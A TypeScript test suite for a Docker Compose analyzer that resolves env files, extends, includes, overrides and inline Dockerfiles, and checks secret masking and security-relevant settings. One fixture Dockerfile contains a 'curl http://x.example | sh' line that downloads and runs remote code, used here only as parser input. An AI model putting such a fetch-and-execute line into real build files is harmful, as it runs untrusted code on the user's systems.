import { deepEqual, equal, notEqual, ok } from 'node:assert/strict';
import { suite, test } from 'node:test';
import { readDocument } from '../../rules/model/document.ts';
import type { Container, NodeKind, NodeOf } from '../../rules/model/nodes.ts';
import { applyEdits } from '../../rules/model/text.ts';
import { filesOf } from './filesOf.ts';
import { cut, outline, said } from './outline.ts';

type Texts = Readonly<Record<string, string>>;

const read = (uri: string, texts: Texts) => readDocument(uri, 'compose', texts[uri]!, undefined, filesOf(texts));
const all = <K extends NodeKind>(uri: string, texts: Texts, kind: K): NodeOf<K>[] =>
  read(uri, texts).parts.flatMap(({ part }) => part.nodes.filter((node): node is NodeOf<K> => node.kind === kind));
const shown = (uri: string, texts: Texts, kind: NodeKind): string[] =>
  read(uri, texts).parts.flatMap(({ part }) => outline(part.text, part.nodes, kind));
const container = (uri: string, texts: Texts, name = 'api'): Container =>
  all(uri, texts, 'Container').find((container) => container.name === name)!;
const variables = ({ variables }: Container): string[] =>
  variables.map(({ name, value, place }) => `${place} ${name}=${said(value)}`);

suite('compose and the `.env` beside it', () => {
  const env =
    'TAG=1.2\nUID=0\nDB_PASSWORD=hunter22\nDEBUG=true\nLEVEL=debug\nURL=http://fhir:8080/r4\nQUOTED="a b" # c\nOUTSIDE\n';
  const compose =
    'services:\n  api:\n    image: a/b:${TAG}\n    user: "${UID}"\n    environment:\n      DB_PASSWORD: ${DB_PASSWORD}\n      DB: postgres://u:${DB_PASSWORD}@db/x\n      DEBUG: ${DEBUG}\n      LEVEL: ${LEVEL:-info}\n      URL: ${URL}\n      O: ${OUTSIDE:-d}\n    command: ["--tag=${TAG}", "--debug=${DEBUG}", "--password=${DB_PASSWORD}"]\n    labels: {key: "${DB_PASSWORD}"}\n';
  const texts = { 'a/compose.yaml': compose, 'a/.env': env };
  test('images, users and the like are known', () => {
    deepEqual(shown('a/compose.yaml', texts, 'ImageReference'), ['a/b:${TAG} → run docker.io/a/b tag=1.2']);
    equal(container('a/compose.yaml', texts).user.value, '0');
    equal(container('a/compose.yaml', texts).user.set, undefined);
  });
  test('what a process sees is known where it is a plain setting, and never where it may be a secret', () => {
    deepEqual(variables(container('a/compose.yaml', texts)), [
      'environment DB_PASSWORD=unknown',
      'environment DB=unknown',
      'environment DEBUG=true',
      'environment LEVEL=debug',
      'environment URL=http://fhir:8080/r4',
      'environment O=unknown',
    ]);
    deepEqual(
      shown('a/compose.yaml', texts, 'Command').map((line) => line.split(' → ')[1]),
      ['command exec ["--tag=\uFFFE","--debug=true","--password=\uFFFE"]'],
    );
    ok(
      !JSON.stringify(
        read('a/compose.yaml', texts).parts.map(({ part }) => part.nodes.map(({ kind, span }) => [kind, span])),
      ).includes('hunter22'),
    );
  });
  test('without one, everything is as without files', () => {
    const alone = { 'a/compose.yaml': compose };
    deepEqual(
      shown('a/compose.yaml', alone, 'Variable'),
      outline(compose, readDocument('a/compose.yaml', 'compose', compose).parts[0]!.part.nodes, 'Variable'),
    );
  });
});

suite('compose: env files', () => {
  const texts = {
    'c.yaml':
      'services:\n  api:\n    image: x\n    env_file:\n      - one.env\n      - path: ./sub/two.env\n        required: false\n        format: raw\n      - path: none.env\n        required: false\n    environment: {A: own}\n  job:\n    image: x\n    env_file: one.env\n',
    'one.env': 'A=1\nB=true\nPOSTGRES_PASSWORD=hunter22\nPOSTGRES_HOST_AUTH_METHOD=trust\n',
    'sub/two.env': 'B="true"\nC=off\n',
  };
  test('later files win, and the environment over all of them', () =>
    deepEqual(variables(container('c.yaml', texts)), [
      'environment A=own',
      'env-file C=off',
      'env-file B=unknown',
      'env-file POSTGRES_HOST_AUTH_METHOD=trust',
      'env-file POSTGRES_PASSWORD=unknown',
    ]));
  test('they stand at the entry, and in no list of nodes', () => {
    deepEqual(shown('c.yaml', texts, 'Variable'), ['A → environment of api: A=own']);
    const [, c] = container('c.yaml', texts).variables;
    equal(cut(texts['c.yaml'], c!.span), './sub/two.env');
    equal(variables(container('c.yaml', texts, 'job')).length, 4);
  });
});

suite('compose: extends in another file', () => {
  const base =
    'services:\n  base:\n    extends: root\n    image: a/b:1\n    user: root\n    environment: [A=1, TOKEN=hunter22]\n    ports: ["23:23"]\n    cap_add: [SYS_ADMIN]\n    healthcheck: {test: [CMD, x], interval: 3s}\n    env_file: b.env\n    deploy: {resources: {limits: {memory: 1g}}}\n  root:\n    read_only: true\n    security_opt: [no-new-privileges:true]\n';
  const own =
    'services:\n  api:\n    extends: {file: ../base/common.yaml, service: base}\n    environment: {A: 2}\n    security_opt: [label=x]\n    deploy: {replicas: 2}\n  job:\n    extends: api\n';
  const texts = { '/p/app/c.yaml': own, '/p/base/common.yaml': base, '/p/base/b.env': 'E=on\n' };
  test('what comes from there stands at `extends`, and is overruled here', () => {
    const { user, readOnlyRoot, image, partial } = container('/p/app/c.yaml', texts);
    deepEqual([user.value, readOnlyRoot.value, image?.text, partial], ['root', true, 'a/b:1', false]);
    equal(cut(own, user.span), 'extends');
    equal(user.remove, undefined);
    ok(applyEdits(own, [user.set!('65532')]).includes('service: base}\n    user: "65532"\n'));
  });
  test('its nodes belong to the container, and to no list', () => {
    const api = container('/p/app/c.yaml', texts);
    deepEqual(variables(api), ['environment A=2', 'environment TOKEN=hunter22', 'env-file E=on']);
    deepEqual(
      api.ports.map(({ text, span }) => [text, cut(own, span)]),
      [['23:23', 'extends']],
    );
    deepEqual(shown('/p/app/c.yaml', texts, 'Variable'), ['A → environment of api: A=2']);
    deepEqual([shown('/p/app/c.yaml', texts, 'Port'), shown('/p/app/c.yaml', texts, 'ImageReference')], [[], []]);
  });
  test('its field is all of them, one over the other', () => {
    const { field } = container('/p/app/c.yaml', texts, 'job');
    deepEqual(
      field!
        .at('security_opt')
        .items()
        .map(({ text }) => text),
      ['label=x', 'no-new-privileges:true'],
    );
    deepEqual(field!.at('healthcheck', 'interval').text, '3s');
    deepEqual([field!.at('deploy', 'replicas').text, field!.at('deploy', 'resources', 'limits', 'memory').text], ['2', '1g']);
    deepEqual(
      field!
        .at('deploy')
        .entries()
        .map(([name]) => name),
      ['replicas', 'resources'],
    );
    const [capability] = field!.at('cap_add').items();
    deepEqual(
      [capability!.text, cut(own, capability!.span), capability!.remove(), field!.at('cap_add').insert('X')],
      ['SYS_ADMIN', 'extends', undefined, undefined],
    );
    ok(field!.at('pids_limit').write('5'));
    deepEqual(
      field!
        .entries()
        .map(([name]) => name)
        .includes('read_only'),
      true,
    );
  });
  test('one that is not there leaves the service partial', () => {
    equal(container('/p/app/c.yaml', { '/p/app/c.yaml': own }).partial, true);
    equal(
      container('c.yaml', { 'c.yaml': 'services: {api: {image: x, extends: {file: "https://x.example/c.yaml", service: a}}}' })
        .partial,
      true,
    );
    equal(
      container('c.yaml', { 'c.yaml': 'services: {api: {image: x, extends: {file: "${DIR}/c.yaml", service: a}}}' }).partial,
      true,
    );
  });
  test('circles through files end', () => {
    const circle = {
      'a.yaml': 'services: {api: {image: x, extends: {file: b.yaml, service: api}}}\ninclude: [b.yaml]\n',
      'b.yaml': 'services: {api: {user: root, extends: {file: a.yaml, service: api}}}\ninclude: [a.yaml, b.yaml]\n',
    };
    equal(container('a.yaml', circle).user.value, 'root');
  });
  test('what takes out or overrides cuts off what is below', () => {
    const text =
      'services:\n  api:\n    extends: {file: b.yaml, service: b}\n    ports: !override ["80:80"]\n    cap_add: !reset []\n    volumes: !reset null\n    dns: !override [a]\n';
    const texts = {
      'c.yaml': text,
      'b.yaml': 'services: {b: {image: x, ports: ["23:23"], cap_add: [ALL], volumes: [/a], dns: [b], user: root}}\n',
    };
    const { ports, mounts, field } = container('c.yaml', texts);
    deepEqual([ports.map(({ text }) => text), mounts], [['80:80'], []]);
    deepEqual(
      [
        field!.at('cap_add').items(),
        field!
          .at('dns')
          .items()
          .map(({ text }) => text),
      ],
      [[], ['a']],
    );
  });
});

suite('compose: include', () => {
  const texts = {
    'app/compose.yaml':
      'include:\n  - ../db/compose.yaml\n  - path: [more.yaml, over.yaml]\n    env_file: more.env\n    project_directory: .\nservices:\n  api: {image: ours/job}\n',
    'db/compose.yaml': 'include: [deep.yaml]\nservices:\n  db: {image: "postgres:${PG}", privileged: true}\n',
    'db/.env': 'PG=17\n',
    'db/deep.yaml': 'services: {deep: {image: x}}\n',
    'app/more.yaml': 'services:\n  job: {build: ., image: "${NAME}"}\n',
    'app/over.yaml': 'services: {job: {user: "1"}}\n',
    'app/more.env': 'NAME=ours/job\n',
  };
  test('included services are named, at the entry', () => {
    const [file] = all('app/compose.yaml', texts, 'compose.File');
    deepEqual(
      file!.services.map(({ name }) => name),
      ['api'],
    );
    deepEqual(
      file!.included!.map(
        ({ name, image, span }) => `${name} ${image?.name?.repository} ${cut(texts['app/compose.yaml'], span)}`,
      ),
      [
        'db docker.io/library/postgres ../db/compose.yaml',
        'deep docker.io/library/x ../db/compose.yaml',
        'job docker.io/ours/job path',
      ],
    );
    deepEqual(file!.included![0]!.image!.name!.tag.value, '17');
  });
  test('what one of them builds is pulled from nowhere', () =>
    deepEqual(shown('app/compose.yaml', texts, 'ImageReference'), ['ours/job → run docker.io/ours/job tag=unset output']));
});

suite('compose: files laid over one another', () => {
  const base =
    'services:\n  api:\n    image: a/b:1\n    user: root\n    privileged: true\n    ports: ["23:23"]\n    pid: host\n    environment: {TOKEN: hunter22}\n  db:\n    image: c/d:1\n    user: root\n';
  const override =
    'services:\n  api:\n    user: "1000"\n    privileged: true\n    ports: !reset []\n    pid: !reset null\n    read_only: true\n    volumes: [./data:/data]\n    healthcheck: {test: [CMD, x]}\n';
  const texts = { 'compose.yaml': base, 'compose.override.yaml': override };
  test('the file below: what the one above decides is unknown, the rest is as written', () => {
    const { user, privileged, readOnlyRoot, field, mounts, partial } = container('compose.yaml', texts);
    deepEqual([said(user), said(privileged), said(readOnlyRoot)], ['unknown', 'true', 'unknown']);
    equal(cut(base, user.span), 'user');
    deepEqual([field!.at('pid').text, field!.at('pid').written, field!.at('pid').known], [undefined, true, false]);
    deepEqual([field!.at('healthcheck').written, field!.at('healthcheck', 'test').known], [true, false]);
    deepEqual(
      mounts.map(({ source }) => source),
      ['./data'],
    );
    equal(partial, true);
    deepEqual(shown('compose.yaml', texts, 'Port'), []);
    deepEqual(shown('compose.yaml', texts, 'Variable'), ['TOKEN → environment of api: TOKEN=hunter22']);
    deepEqual([field!.at('pid').remove(), field!.at('pid').write('x')], [undefined, undefined]);
  });
  test('a service it does not touch is whole', () => {
    const { user, partial } = container('compose.yaml', texts, 'db');
    deepEqual([user.value, partial], ['root', false]);
  });
  test('a change for development does not make the service below partial', () =>
    equal(
      container('compose.yaml', {
        'compose.yaml': base,
        'docker-compose.override.yml': 'services: {api: {volumes: [.:/app], command: x, environment: {A: 1}}}',
      }).partial,
      false,
    ));
  test('the file above says what it says, of the image below', () => {
    const { user, image, partial, privileged } = container('compose.override.yaml', texts);
    deepEqual([user.value, image?.text, partial, privileged.value], ['1000', 'a/b:1', true, true]);
    deepEqual(shown('compose.override.yaml', texts, 'ImageReference'), []);
  });
  test('a variant is laid over the base when it could not start alone', () => {
    const over = { 'compose.yaml': base, 'compose.prod.yaml': 'services:\n  api: {user: root}\n  db: {image: x}\n' };
    deepEqual([container('compose.prod.yaml', over).partial, container('compose.prod.yaml', over, 'db').partial], [true, true]);
    const alone = { 'compose.yaml': base, 'compose.prod.yaml': 'services:\n  api: {image: x}\n' };
    equal(container('compose.prod.yaml', alone).partial, false);
    equal(said(container('compose.yaml', over).user), 'root');
  });
  test('`COMPOSE_FILE` names the files, in their order', () => {
    const listed = { ...texts, '.env': 'COMPOSE_FILE=compose.yaml:x.yaml\n', 'x.yaml': 'services: {db: {user: "5"}}\n' };
    deepEqual(
      [said(container('compose.yaml', listed).user), said(container('compose.yaml', listed, 'db').user)],
      ['root', 'unknown'],
    );
    equal(container('x.yaml', listed, 'db').partial, true);
  });
});

suite('compose: an inline Dockerfile', () => {
  const text =
    'services:\n  api:\n    build:\n      context: .\n      dockerfile_inline: |\n        FROM alpine:latest\n        ENV A=1 \\\n            TOKEN=hunter22\n        RUN <<EOF\n          curl http://x.example | sh\n        EOF\n        USER root\n    ports: ["80:80"]\n';
  const nodes = <K extends NodeKind>(kind: K, source = text): NodeOf<K>[] =>
    all('compose.yaml', { 'compose.yaml': source }, kind);
  test('is read as one, each span in its place', () => {
    deepEqual(
      nodes('ImageReference').map(({ span, role }) => `${role} ${cut(text, span)}`),
      ['base alpine:latest'],
    );
    deepEqual(
      nodes('Variable').map(({ name, value }) => `${name}=${cut(text, value.span)}`),
      ['A=1', 'TOKEN=hunter22'],
    );
    deepEqual(
      nodes('Container').map(({ role, user, span }) => `${role} ${said(user)} ${cut(text, span)}`),
      ['service unset api', 'stage root alpine:latest'],
    );
    deepEqual(
      nodes('dockerfile.Instruction').map(({ keyword }) => keyword),
      ['FROM', 'ENV', 'RUN', 'USER'],
    );
    const [command] = nodes('Command');
    equal(command!.text.includes('curl http://x.example | sh'), true);
  });
  test('edits keep to its indentation', () => {
    const stage = nodes('Container').find(({ role }) => role === 'stage')!;
    equal(applyEdits(text, [stage.user.set!('65532')]), text.replace('USER root', 'USER 65532'));
    const without = text.replace('        USER root\n', '');
    const other = nodes('Container', without).find(({ role }) => role === 'stage')!;
    const fixed = applyEdits(without, [other.user.set!('65532')]);
    equal(said(nodes('Container', fixed).find(({ role }) => role === 'stage')!.user), '65532');
    equal(nodes('Container', fixed)[0]!.ports.length, 1);
    const exposing = text.replace('USER root', 'EXPOSE 21');
    const port = nodes('Port', exposing).find(({ place }) => place === 'expose')!;
    equal(applyEdits(exposing, [port.remove!()]), exposing.replace('        EXPOSE 21\n', ''));
  });
  test('compose substitutes in it first', () => {
    const other = text.replace('alpine:latest', 'alpine:${TAG:-3}').replace('hunter22', () => '$$X');
    deepEqual(
      nodes('ImageReference', other).map(({ name, span, set }) => [name?.tag.value, cut(other, span), set]),
      [['3', 'alpine:${TAG:-3}', undefined]],
    );
    deepEqual(
      nodes('Variable', other).map(({ name, value }) => `${name}=${said(value)} ${cut(other, value.span)}`),
      ['A=1 1', 'TOKEN=unknown $$X'],
    );
  });
  test('in quotes it stands at the text as a whole', () => {
    const quoted = 'services:\n  api:\n    build: {dockerfile_inline: "FROM alpine\\nUSER root\\n"}\n';
    deepEqual(
      nodes('ImageReference', quoted).map(({ span, set }) => [cut(quoted, span), set]),
      [['FROM alpine\\nUSER root\\n', undefined]],
    );
  });
  test('through an anchor it is read once', () => {
    const shared = `x-b: &b\n  dockerfile_inline: |\n    FROM alpine\nservices:\n  a: {build: *b}\n  b: {build: *b}\n`;
    equal(nodes('ImageReference', shared).length, 1);
  });
});

suite('what was read is kept while the answers are the same', () => {
  const text = 'services: {api: {image: "a:${TAG}", env_file: x.env}}\n';
  const files = filesOf({ 'c.yaml': text, '.env': 'TAG=1\n' });
  const document = readDocument('c.yaml', 'compose', text, undefined, files);
  test('with the same files, or others that say the same', () => {
    equal(readDocument('c.yaml', 'compose', text, document, files), document);
    equal(readDocument('c.yaml', 'compose', text, document, filesOf({ '.env': 'TAG=1\n' })), document);
  });
  test('and no longer', () => {
    for (const other of [filesOf({ '.env': 'TAG=2\n' }), filesOf({}), filesOf({ '.env': 'TAG=1\n', 'x.env': '' }), undefined])
      notEqual(readDocument('c.yaml', 'compose', text, document, other), document);
    notEqual(readDocument('c.yaml', 'compose', text, readDocument('c.yaml', 'compose', text), files), document);
  });
  test('what was asked is told', () => {
    const { asked } = document.parts[0]!.part;
    deepEqual([asked!.get('.env'), asked!.has('x.env'), asked!.get('x.env')], ['TAG=1\n', true, undefined]);
  });
});
